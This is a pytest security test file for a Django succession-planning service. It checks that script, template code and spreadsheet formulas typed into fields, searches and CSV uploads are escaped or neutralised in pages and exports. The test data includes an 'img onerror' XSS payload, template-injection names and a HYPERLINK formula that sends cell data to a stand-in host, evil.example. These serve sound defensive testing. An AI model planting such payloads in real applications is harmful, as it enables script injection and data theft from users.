"""Script typed into any free-text field comes back escaped on every page that shows it, and
spreadsheet exports never hand a formula to a spreadsheet program.

Each field holds a payload naming it (tests/security/payload_world.py): a <script> element, an
attribute break-out and an <img onerror>. A page passes when the escaped payload is there (so the
page does show the field) and the raw one is not."""

import csv
import datetime as dt
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from openpyxl import load_workbook

from pledges.models import InconsistencyReport, Pledge
from risk import recalculation
from succession.imports import COLUMN_NAMES
from succession.models import Post
from talent.models import CalibrationPlacement, Person, PostRole
from talent.services import calibration as calibration_services
from talent.services import pool as pool_services
from tests.pledges.factories import condition, make_pledge
from tests.security.crawl import crawl, parameterless_urls
from tests.security.payload_world import (
    EVIDENCE_LINK,
    FIELDS,
    RAW_EVIDENCE_LINK,
    build_payload_world,
    escaped,
    payload,
    raw_marker,
)
from tests.succession.factories import make_post
from tests.talent.factories import CohortFactory, pool_member

pytestmark = pytest.mark.django_db

RAW_HANDLER = "<img src=x onerror=alert(1)>"


@pytest.fixture
def world(trust, hr_director, chair, talent_team, pledge_lead, national_body):
    return build_payload_world(
        trust=trust,
        hr_director=hr_director,
        chair=chair,
        talent_team=talent_team,
        pledge_lead=pledge_lead,
        body=national_body,
    )


def page(name, *keys):
    """A page's address from the world: page("succession:post_detail", "held_post")."""

    def address(world):
        args = [world[key] if isinstance(world[key], str) else world[key].pk for key in keys]
        return reverse(name, args=args)

    address.__name__ = f"{name}({', '.join(keys)})"
    return address


def nomination_page(name):
    def address(world):
        return reverse(name, args=[world["slate_post"].pk, world["nomination"].pk])

    address.__name__ = name
    return address


def person_page(name, key):
    def address(world):
        return reverse(name, args=[world["person"].pk, world[key].pk])

    address.__name__ = name
    return address


BOARD = page("succession:board", "ods_code")
HELD_POST = page("succession:post_detail", "held_post")
SLATE_POST = page("succession:post_detail", "slate_post")
SLATE = page("succession:plan_manage", "slate_post")
SIGN_OFF = page("succession:plan_sign_off", "slate_post")
APPOINT = nomination_page("succession:nomination_appoint")
NOMINATION_EDIT = nomination_page("succession:nomination_edit")
PERSON = page("talent:person_detail", "person")
PERSON_EDIT = page("talent:person_edit", "person")
POOL_PROFILE = page("talent:pool_profile", "person")
POOL_PROFILE_EDIT = page("talent:pool_profile_edit", "person")
DEVELOPMENT_EDIT = person_page("talent:development_edit", "activity")
CALIBRATION = page("talent:calibration_session", "session")
PLEDGE = page("pledges:pledge_detail", "pledge")
PLEDGE_EDIT = page("pledges:pledge_edit", "pledge")
WITHDRAWN = page("pledges:pledge_detail", "withdrawn_pledge")
WITHDRAWN_EDIT = page("pledges:pledge_edit", "withdrawn_pledge")
RESPOND = page("pledges:report_respond", "report")
RISK_POST = page("risk:post", "held_post")


def fixed(name):
    def address(world):
        return reverse(name)

    address.__name__ = name
    return address


def milestone_edit(world):
    return reverse("pledges:milestone_edit", args=[world["pledge"].pk, world["milestone"].pk])


PEOPLE = fixed("talent:person_list")
POOL = fixed("talent:pool_search")
RISK = fixed("risk:dashboard")
METHOD = fixed("risk:method")
CALIBRATIONS = fixed("talent:calibration_list")
TRACKER = fixed("pledges:tracker")
MY_REPORTS = fixed("pledges:my_reports")

HR, CHAIR, NATIONAL, LEAD, OTHER_HR = (
    "hr_director",
    "chair",
    "talent_team",
    "pledge_lead",
    "other_hr_director",
)
NAME_PAGES = [
    (HR, BOARD),
    (HR, PEOPLE),
    (HR, PERSON),
    (HR, PERSON_EDIT),
    (HR, HELD_POST),
    (HR, SLATE),
    (HR, APPOINT),
    (CHAIR, SIGN_OFF),
    (NATIONAL, POOL),
    (NATIONAL, POOL_PROFILE),
    (NATIONAL, CALIBRATION),
    (OTHER_HR, POOL),
]
# Where each field is shown, and to whom. A field missing here fails the test below.
SHOWN_ON = {
    "post.title": [
        (HR, BOARD),
        (HR, HELD_POST),
        (HR, RISK),
        (HR, RISK_POST),
        (HR, PERSON),
        (HR, APPOINT),  # "They leave <post title>…": the hint under the interim question
        (CHAIR, BOARD),
        (NATIONAL, POOL_PROFILE),
    ],
    "person.first_name": NAME_PAGES,
    "person.last_name": NAME_PAGES,
    "career.title": [(HR, PERSON), (CHAIR, PERSON)],
    "career.organisation_name": [(HR, PERSON), (NATIONAL, PERSON)],
    "nomination.notes": [(HR, SLATE), (HR, NOMINATION_EDIT), (CHAIR, SIGN_OFF)],
    "nomination.removed_reason": [(HR, SLATE_POST), (NATIONAL, SLATE_POST)],
    "sign_off.comment": [(HR, SLATE_POST), (HR, SLATE), (CHAIR, SLATE_POST)],
    "risk_method.reason": [(HR, METHOD), (NATIONAL, METHOD)],
    "user.first_name": [(HR, SLATE_POST), (HR, SLATE), (NATIONAL, SLATE_POST)],
    "user.last_name": [(HR, SLATE_POST), (HR, SLATE), (NATIONAL, SLATE_POST)],
    "profile.aspirations": [(NATIONAL, POOL_PROFILE), (NATIONAL, POOL_PROFILE_EDIT)],
    "readiness.notes": [(NATIONAL, POOL_PROFILE)],
    "nine_box.reason": [(NATIONAL, POOL_PROFILE)],
    "calibration.reason": [(NATIONAL, POOL_PROFILE), (NATIONAL, CALIBRATION)],
    "development.title": [(NATIONAL, POOL_PROFILE), (NATIONAL, DEVELOPMENT_EDIT)],
    "development.mentor_name": [(NATIONAL, POOL_PROFILE)],
    "development.notes": [(NATIONAL, POOL_PROFILE), (NATIONAL, DEVELOPMENT_EDIT)],
    "programme.name": [
        (NATIONAL, POOL),
        (NATIONAL, POOL_PROFILE),
        (NATIONAL, CALIBRATIONS),
        (NATIONAL, CALIBRATION),
    ],
    "cohort.name": [(NATIONAL, POOL_PROFILE), (NATIONAL, CALIBRATIONS), (NATIONAL, CALIBRATION)],
    "pledge.title": [
        (HR, TRACKER),
        (HR, PLEDGE),
        (HR, MY_REPORTS),
        (LEAD, PLEDGE_EDIT),
        (LEAD, RESPOND),
    ],
    "pledge.commitment": [(HR, PLEDGE), (LEAD, PLEDGE_EDIT)],
    "pledge.accountable_owner": [(HR, PLEDGE), (LEAD, PLEDGE_EDIT)],
    "pledge.success_measure": [(HR, PLEDGE), (LEAD, PLEDGE_EDIT)],
    "pledge.withdrawn_reason": [(HR, WITHDRAWN), (LEAD, WITHDRAWN_EDIT)],
    "milestone.title": [(HR, PLEDGE), (LEAD, milestone_edit)],
    "update.narrative": [(HR, PLEDGE), (LEAD, PLEDGE)],
    "report.what_happened": [(HR, MY_REPORTS), (CHAIR, PLEDGE), (LEAD, RESPOND)],
    "response.text": [(HR, MY_REPORTS), (OTHER_HR, PLEDGE), (NATIONAL, RESPOND)],
}


# Every text field of the service's models is either one of FIELDS or not typed by users of the
# service's pages, with the reason. A new text field fails the test below until it is sorted.
MODEL_FIELDS = {
    "accounts.User.first_name": "user.first_name",
    "accounts.User.last_name": "user.last_name",
    "talent.Person.first_name": "person.first_name",
    "talent.Person.last_name": "person.last_name",
    "talent.CareerHistoryEntry.title": "career.title",
    "talent.CareerHistoryEntry.organisation_name": "career.organisation_name",
    "talent.TalentProfile.aspirations": "profile.aspirations",
    "talent.Programme.name": "programme.name",
    "talent.Cohort.name": "cohort.name",
    "talent.TargetRoleReadiness.notes": "readiness.notes",
    "talent.DevelopmentActivity.title": "development.title",
    "talent.DevelopmentActivity.mentor_name": "development.mentor_name",
    "talent.DevelopmentActivity.notes": "development.notes",
    "talent.NineBoxPlacement.reason": "nine_box.reason",  # and calibration.reason (a move)
    "succession.Post.title": "post.title",
    "succession.Nomination.notes": "nomination.notes",
    "succession.Nomination.removed_reason": "nomination.removed_reason",
    "succession.SignOff.comment": "sign_off.comment",
    "risk.RiskMethod.reason": "risk_method.reason",
    "pledges.Pledge.title": "pledge.title",
    "pledges.Pledge.commitment": "pledge.commitment",
    "pledges.Pledge.accountable_owner": "pledge.accountable_owner",
    "pledges.Pledge.success_measure": "pledge.success_measure",
    "pledges.Pledge.withdrawn_reason": "pledge.withdrawn_reason",
    "pledges.Milestone.title": "milestone.title",
    "pledges.ProgressUpdate.narrative": "update.narrative",
    "pledges.InconsistencyReport.what_happened": "report.what_happened",
    "pledges.ReportResponse.text": "response.text",
}
NOT_TYPED_ON_THE_SERVICES_PAGES = {
    "accounts.User.password": "a password hash, never shown",
    "accounts.User.username": "letters, digits and @.+-_ only (Django's username validator)",
    "orgs.Region.code": "reference data from orgs/data, changed only in the admin",
    "orgs.Region.name": "reference data from orgs/data, changed only in the admin",
    "orgs.Region.short_name": "reference data from orgs/data, changed only in the admin",
    "orgs.Organisation.ods_code": "ODS data, changed only by an import or in the admin",
    "orgs.Organisation.name": "ODS data, changed only by an import or in the admin",
    "orgs.Organisation.higher_health_geography": "ODS data, not shown",
    "orgs.Organisation.postcode": "ODS data, changed only by an import or in the admin",
    "orgs.Organisation.source": "the name of the file it was imported from",
    "talent.Programme.description": "reference data kept in the admin, not shown on pages",
    "talent.EqualityAuditEntry.username": "written by the service, read in the admin",
    "talent.EqualityAuditEntry.page": "written by the service, read in the admin",
    "risk.RecalculationRun.error": "written by the service",
    "risk.RiskLock.name": "written by the service",
    "pledges.FrameworkCondition.title": "the framework's five conditions, from a migration",
    "pledges.FrameworkCondition.short_name": "the conditions' short names, from a migration",
}


def test_every_text_field_of_the_models_is_checked_or_not_typed_by_users():
    from django.apps import apps
    from django.db import models

    text_fields = {
        f"{model._meta.label}.{field.name}"
        for app in ("accounts", "orgs", "talent", "succession", "risk", "pledges")
        for model in apps.get_app_config(app).get_models()
        if not model.__name__.startswith("Historical")
        for field in model._meta.get_fields()
        if isinstance(field, models.CharField | models.TextField)
        and not field.choices
        and not isinstance(field, models.EmailField)
    }

    assert text_fields - set(MODEL_FIELDS) - set(NOT_TYPED_ON_THE_SERVICES_PAGES) == set()
    assert set(MODEL_FIELDS.values()) <= set(FIELDS)


def test_every_free_text_field_has_pages_to_check():
    assert set(SHOWN_ON) == set(FIELDS)


@pytest.mark.parametrize("field", FIELDS)
def test_a_script_typed_into_the_field_comes_back_escaped(request, client, world, field):
    """Each page that shows the field shows the payload as text, never as markup."""
    wrong = []
    for persona, address in SHOWN_ON[field]:
        client.force_login(request.getfixturevalue(persona))
        url = address(world)
        response = client.get(url)
        text = response.content.decode()
        if response.status_code != 200:
            wrong.append(f"{url} as {persona}: status {response.status_code}")
        elif raw_marker(field) in text:
            wrong.append(f"{url} as {persona}: the script is in the page unescaped")
        elif escaped(field) not in text:
            wrong.append(f"{url} as {persona}: the field is not shown (escaped) at all")

    assert wrong == []


@pytest.mark.parametrize("persona", [HR, CHAIR, NATIONAL, LEAD, OTHER_HR, "administrator"], ids=str)
def test_no_page_a_role_can_reach_shows_any_payload_unescaped(request, client, world, persona):
    """Following every link from every page a role can open, no HTML page has a raw payload."""
    client.force_login(request.getfixturevalue(persona))

    pages = crawl(client, ["/", *parameterless_urls()])

    html = [page for page in pages.values() if "html" in page.content_type]
    assert len(html) > 20  # the crawl did reach the service's pages
    unescaped = [
        f"{page.url}: {field}"
        for page in html
        for field in FIELDS
        if raw_marker(field) in page.text
    ]
    unescaped += [f"{page.url}: <img onerror>" for page in html if RAW_HANDLER in page.text]
    unescaped += [f"{page.url}: evidence link" for page in html if RAW_EVIDENCE_LINK in page.text]
    assert unescaped == []


def test_an_evidence_address_carrying_a_script_stays_inside_its_href(
    client_for, hr_director, world
):
    response = client_for(hr_director).get(PLEDGE(world))

    assert f'href="{escape(EVIDENCE_LINK)}"' in response.text
    assert RAW_EVIDENCE_LINK not in response.text


def test_the_api_serves_payloads_as_json_that_browsers_will_not_sniff_as_html(
    client_for, hr_director, world
):
    response = client_for(hr_director).get(reverse("api-post-detail", args=[world["held_post"].pk]))

    assert response.json()["title"] == payload("post.title")
    assert response["Content-Type"] == "application/json"
    assert response["X-Content-Type-Options"] == "nosniff"


# --- Template code in names -------------------------------------------------------------------


def test_template_code_in_a_name_is_shown_as_typed_and_never_run(client_for, talent_team, trust):
    """crispy-forms renders a button's text as a template: the calibration page's "Move <name>"
    buttons must not run a name such as {{ request.user.username }}."""
    person = pool_member(
        trust, first_name="{{ request.user.username }}", last_name="{% now 'Y' %}<b>x</b>"
    )
    pool_services.nine_box_place(person=person, performance=2, potential=2, reason="Placed")
    cohort = CohortFactory()
    pool_services.cohort_membership_add(person=person, cohort=cohort, joined_on=cohort.starts_on)
    session = calibration_services.calibration_session_open(
        cohort=cohort, held_on=timezone.localdate()
    )

    response = client_for(talent_team).get(reverse("talent:calibration_session", args=[session.pk]))

    buttons = re.findall(r'<button[^>]*name="move"[^>]*>(.*?)</button>', response.text, re.S)
    assert len(buttons) == CalibrationPlacement.objects.filter(session=session).count() == 1
    label = buttons[0].strip()
    assert "nadia" not in label and str(timezone.localdate().year) not in label
    assert "<b>" not in label
    assert label == (
        "Move &#123;&#123; request.user.username &#125;&#125; "
        "&#123;% now &#x27;Y&#x27; %&#125;&lt;b&gt;x&lt;/b&gt;"
    )


# --- Search boxes echo what was typed -------------------------------------------------------


SEARCHES = [
    (HR, lambda world: reverse("orgs:list")),
    (HR, lambda world: reverse("talent:person_list")),
    (NATIONAL, lambda world: reverse("talent:pool_search")),
    (OTHER_HR, lambda world: reverse("talent:pool_search")),
    (HR, lambda world: reverse("succession:nomination_add", args=[world["slate_post"].pk])),
    (NATIONAL, lambda world: reverse("succession:nomination_add", args=[world["slate_post"].pk])),
]


@pytest.mark.parametrize(
    ("persona", "address"),
    SEARCHES,
    ids=["organisations", "people", "pool", "pool-other-trust", "successor", "successor-national"],
)
def test_a_script_typed_into_a_search_box_comes_back_escaped(
    request, client, world, persona, address
):
    client.force_login(request.getfixturevalue(persona))

    response = client.get(address(world), {"q": payload("search")})

    assert response.status_code == 200
    assert raw_marker("search") not in response.text
    assert escaped("search") in response.text  # the box keeps what was typed


# --- Typed through the real forms ----------------------------------------------------------


def follow(client, url, data):
    response = client.post(url, data, follow=True)
    assert response.status_code == 200, response.content.decode()[:2000]
    return response.content.decode()


def date_parts(name, date):
    return {f"{name}_day": date.day, f"{name}_month": date.month, f"{name}_year": date.year}


def test_a_post_added_through_its_form_keeps_the_text_and_escapes_it(
    client_for, hr_director, trust
):
    text = follow(
        client_for(hr_director),
        reverse("succession:post_create", args=[trust.ods_code]),
        {"title": payload("form.post"), "role": PostRole.CHIEF_NURSE, "criticality": "high"},
    )

    assert Post.objects.get(organisation=trust).title == payload("form.post")
    assert escaped("form.post") in text  # "Added the post …" and the page itself
    assert raw_marker("form.post") not in text


def test_a_person_added_through_their_form_keeps_the_name_and_escapes_it(
    client_for, hr_director, trust
):
    text = follow(
        client_for(hr_director),
        reverse("talent:person_create"),
        {
            "first_name": payload("form.first"),
            "last_name": payload("form.last"),
            "professional_background": "finance",
        },
    )

    person = Person.objects.get(organisation=trust)
    assert (person.first_name, person.last_name) == (payload("form.first"), payload("form.last"))
    assert escaped("form.first") in text and escaped("form.last") in text
    assert raw_marker("form.first") not in text and raw_marker("form.last") not in text


def test_a_pledge_added_through_its_form_keeps_the_text_and_escapes_it(
    client_for, pledge_lead, national_body
):
    today = timezone.localdate()
    text = follow(
        client_for(pledge_lead),
        reverse("pledges:pledge_create"),
        {
            "title": payload("form.pledge"),
            "condition": condition(1).pk,
            "commitment": payload("form.commitment"),
            "accountable_owner": "Director of People",
            **date_parts("start_on", today),
            **date_parts("target_on", today + dt.timedelta(days=300)),
            "success_measure": "Measured yearly",
        },
    )

    assert Pledge.objects.get(body=national_body).title == payload("form.pledge")
    for field in ("form.pledge", "form.commitment"):
        assert escaped(field) in text and raw_marker(field) not in text


def test_a_report_sent_through_its_form_keeps_the_text_and_escapes_it(
    client_for, hr_director, national_body
):
    pledge = make_pledge(national_body)
    client = client_for(hr_director)
    follow(
        client,
        reverse("pledges:report_create"),
        {
            "pledge": pledge.pk,
            "what_happened": payload("form.report"),
            **date_parts("happened_on", timezone.localdate() - dt.timedelta(days=3)),
        },
    )

    assert InconsistencyReport.objects.get().what_happened == payload("form.report")
    for url in (reverse("pledges:my_reports"), reverse("pledges:pledge_detail", args=[pledge.pk])):
        text = client.get(url).content.decode()
        assert escaped("form.report") in text and raw_marker("form.report") not in text


# --- Uploaded spreadsheets ----------------------------------------------------------------


def test_script_in_an_uploaded_spreadsheet_is_escaped_in_the_preview_and_on_the_board(
    client_for, hr_director, trust
):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(COLUMN_NAMES)
    good = dict.fromkeys(COLUMN_NAMES, "")
    good.update(
        post_title=payload("csv.post_title"),
        role="chief_executive",
        holder_first_name=payload("csv.first_name"),
        holder_last_name=payload("csv.last_name"),
        holder_status="substantive",
        holder_started_on="2021-04-01",
    )
    bad = dict(good, post_title="Medical director", role=payload("csv.role"))
    bad.update(holder_first_name="", holder_last_name="", holder_status="", holder_started_on="")
    writer.writerow([good[name] for name in COLUMN_NAMES])
    writer.writerow([bad[name] for name in COLUMN_NAMES])
    client = client_for(hr_director)
    upload = SimpleUploadedFile("posts.csv", buffer.getvalue().encode(), content_type="text/csv")

    response = client.post(
        reverse("succession:import_upload", args=[trust.ods_code]), {"file": upload}
    )
    preview = client.get(response["Location"])

    fields = ("csv.post_title", "csv.first_name", "csv.last_name", "csv.role")
    for field in fields:
        assert raw_marker(field) not in preview.text, field
    for field in fields[:3]:
        assert escaped(field) in preview.text, field
    assert RAW_HANDLER not in preview.text


def test_posts_and_holders_imported_from_a_spreadsheet_are_escaped_on_the_board(
    client_for, hr_director, trust
):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(COLUMN_NAMES)
    row = dict.fromkeys(COLUMN_NAMES, "")
    row.update(
        post_title=payload("csv.post_title"),
        role="chief_executive",
        holder_first_name=payload("csv.first_name"),
        holder_last_name="Smith",
        holder_status="substantive",
        holder_started_on="2021-04-01",
    )
    writer.writerow([row[name] for name in COLUMN_NAMES])
    client = client_for(hr_director)
    upload = SimpleUploadedFile("posts.csv", buffer.getvalue().encode(), content_type="text/csv")
    preview_url = client.post(
        reverse("succession:import_upload", args=[trust.ods_code]), {"file": upload}
    )["Location"]
    preview = client.get(preview_url)

    client.post(preview_url, {"fingerprint": preview.context["plan"].fingerprint})
    board = client.get(reverse("succession:board", args=[trust.ods_code]))

    assert Post.objects.get(organisation=trust).title == payload("csv.post_title")
    for field in ("csv.post_title", "csv.first_name"):
        assert escaped(field) in board.text and raw_marker(field) not in board.text


# --- Exports: no formula reaches a spreadsheet program ---------------------------------------

FORMULA_STARTS = ["=", "+", "-", "@"]


def formula(start: str) -> str:
    return f'{start}HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_post_title_that_looks_like_a_formula_is_text_in_the_risk_csv(
    client_for, hr_director, trust, start
):
    make_post(trust, PostRole.CHIEF_NURSE, formula(start))
    recalculation.recalculate_all()

    response = client_for(hr_director).get(reverse("risk:export", args=["csv"]))

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[0] for row in rows[1:]] == ["'" + formula(start)]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_post_title_that_looks_like_a_formula_is_text_in_the_risk_xlsx(
    client_for, hr_director, trust, start
):
    make_post(trust, PostRole.CHIEF_NURSE, formula(start))
    recalculation.recalculate_all()

    response = client_for(hr_director).get(reverse("risk:export", args=["xlsx"]))

    sheet = load_workbook(io.BytesIO(response.content)).active
    cell = sheet["A2"]
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert cell.value == "'" + formula(start)


PLEDGE_TEXT_COLUMNS = {
    "title": "Pledge",
    "commitment": "Commitment",
    "accountable_owner": "Accountable owner",
    "success_measure": "How success will be measured",
}


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("field", sorted(PLEDGE_TEXT_COLUMNS))
def test_pledge_text_that_looks_like_a_formula_is_text_in_the_tracker_csv(
    client_for, hr_director, national_body, field, start
):
    make_pledge(national_body, **{field: formula(start)})

    response = client_for(hr_director).get(reverse("pledges:export"))

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0][PLEDGE_TEXT_COLUMNS[field]] == "'" + formula(start)
    starts = tuple(FORMULA_STARTS)
    assert not [value for row in rows for value in row.values() if value.startswith(starts)]
